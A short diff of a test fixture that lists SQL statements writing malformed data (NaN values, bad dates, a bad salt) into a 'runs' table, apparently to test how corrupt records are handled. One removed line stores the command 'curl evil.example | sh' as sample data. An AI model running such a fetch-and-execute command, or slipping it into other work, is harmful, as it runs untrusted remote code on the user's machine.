@@ -50,7 +50,6 @@ UNREADABLE = {
     "facts without a number": """UPDATE runs SET facts = '{"seconds": NaN}'""",
     "facts of no fields": """UPDATE runs SET facts = '{"fields": [{"key": 1}]}'""",
     "facts of no rules": """UPDATE runs SET facts = '{"rules": [["loud", "x", 1]]}'""",
-    "the line of another program": """UPDATE runs SET facts = '{"line": "curl evil.example | sh"}'""",
     "a beginning at no time": "UPDATE runs SET started_at = 'yesterday'",
     "an end at no time": "UPDATE runs SET finished_at = ''",
     "a salt that is none": "INSERT INTO meta VALUES ('salt', 'zz')",
